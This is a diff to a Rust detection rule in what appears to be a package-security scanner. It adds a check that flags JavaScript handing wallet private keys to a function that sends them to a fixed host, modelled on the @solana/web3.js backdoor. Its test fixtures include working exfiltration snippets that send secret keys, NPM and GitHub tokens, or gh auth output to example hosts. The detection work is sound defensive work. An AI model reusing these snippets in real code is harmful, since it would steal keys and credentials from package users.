@@ -19,11 +19,16 @@ crate::declare_rule! {
     flag: ["function check(seed) { fetch('https://api.example.net/check', { method: 'POST', headers: { 'ad-referral': String(seed) } }) }",
            "const q = (c) => fetch('https://rpc.example.net/queue', { method: 'POST', headers: { 'x-id': c } }); class K { constructor(k) { q(Buffer.from(k.secretKey).toString('base64')) } }",
            "const t = process.env.NPM_TOKEN; const g = process.env.GITHUB_TOKEN; fetch(u, { method: 'POST', body: t + g })",
-           "const tok = require('child_process').execSync('gh auth token').toString(); require('https').request(o).end(tok)"],
+           "const tok = require('child_process').execSync('gh auth token').toString(); require('https').request(o).end(tok)",
+           "function q(s) { return fetch('https://sol-stats.example.org/q?s=' + s) }\nexport function load(b) { const kp = Keypair.fromSecretKey(b); q(bs58.encode(kp.secretKey)); return kp }",
+           "class Vault { track(k) { return require('https').request({ host: 'vault-metrics.example.org', method: 'PUT' }).end(k) } load(s) { const w = new Wallet(s); this.track(w.privateKey); return w } }",
+           "function note(k) { return fetch('https://rpc-stats.example.org/', { method: 'HEAD', headers: { 'x-trace': Buffer.from(k).toString('hex') } }) }\nexport function load(s) { const kp = Keypair.fromSecretKey(s); note(kp.secretKey); return kp }"],
     pass: ["fetch('https://rpc.example.net/', { method: 'POST', body: JSON.stringify({ method: 'getBalance', params: [publicKey] }) })",
            "return bs58.encode(Buffer.from(this._keypair.secretKey).toString('hex'))",
            "const t = process.env.MY_APP_TOKEN; fetch(u, { headers: { authorization: t } })",
-           "const t = process.env.NPM_TOKEN; console.log(t ? 'set' : 'unset')"],
+           "const t = process.env.NPM_TOKEN; console.log(t ? 'set' : 'unset')",
+           // a key handed to a local signer, and a request to a fixed host that carries none
+           "function sign(k, m) { return nacl.sign.detached(m, k) }\nfunction ping() { return fetch('https://rpc.example.org/health') }\nexport function load(s) { const kp = Keypair.fromSecretKey(s); ping(); return sign(kp.secretKey, msg) }"],
 }
 
 const SECRETS: &[&str] = &[
@@ -108,6 +113,16 @@ fn check(pkg: &Package, out: &mut Emitter) {
             );
             continue;
         }
+        if let Some(o) = key_handed_to_sender(f) {
+            out.hit_sev(
+                Severity::Critical,
+                pkg,
+                f,
+                o,
+                "hands private key material to a function that sends to a fixed host",
+            );
+            continue;
+        }
         let cmd = cmds.find(text).map(|m| (m.start(), m.as_str().to_string()));
         if names.is_empty() && cmd.is_none() {
             continue;
@@ -146,4 +161,45 @@ fn check(pkg: &Package, out: &mut Emitter) {
             format!("reads {} in a file that uses the network", what.join(", ")),
         );
     }
+}
+
+/// Wallet key material (a keypair's `secretKey`, a `privateKey`, a mnemonic or seed) handed to a
+/// function of the file whose own body sends to an address fixed in the code: the
+/// @solana/web3.js 1.95.6 backdoor's `addToQueue(kp.secretKey)`, whatever the request's method
+/// or where in it the key goes. Key libraries hand keys to signers and encoders, which send
+/// nothing; a client sends to the endpoint its caller configures.
+fn key_handed_to_sender(f: &crate::package::FileCtx) -> Option<u32> {
+    let js = f.js.as_ref()?;
+    let handed = crate::regex!(
+        r"(?:^|[^\w$.])(?:this\.)?([A-Za-z_$][\w$]*)\(\s*(?:[\w$.]+\(\s*){0,3}(?:[\w$]+\.)+(?:secretKey|privateKey|_privateKey|mnemonic|seedPhrase|secret_key|private_key)\b"
+    );
+    for c in handed.captures_iter(&f.text).take(32) {
+        let name = c.get(1)?;
+        let n = regex::escape(name.as_str());
+        let Ok(def) = regex::Regex::new(&format!(
+            r"(?m)function\s*\*?\s*{n}\s*\(|\b{n}\s*[:=]\s*(?:async\s+)?(?:function\b|\(|[A-Za-z_$][\w$]*\s*=>)|(?:^|[{{}};])\s*(?:(?:async|static)\s+)*{n}\s*\([^)]*\)\s*\{{"
+        )) else {
+            continue;
+        };
+        let Some(d) = def.find(&f.text) else { continue };
+        let (ds, de) = (d.start() as u32, d.end() as u32);
+        // The function the definition opens: the first span starting within it.
+        let Some(&(s, e)) = js
+            .functions
+            .iter()
+            .filter(|(s, _)| *s >= ds && *s <= de + 8)
+            .min_by_key(|(s, _)| *s)
+        else {
+            continue;
+        };
+        if js.calls.iter().any(|c| {
+            c.off > s
+                && c.off < e
+                && crate::rules::network::is_net_call(&c.path)
+                && super::client_data_theft::fixed_destination(f, c.off)
+        }) {
+            return Some(name.start() as u32);
+        }
+    }
+    None
 }
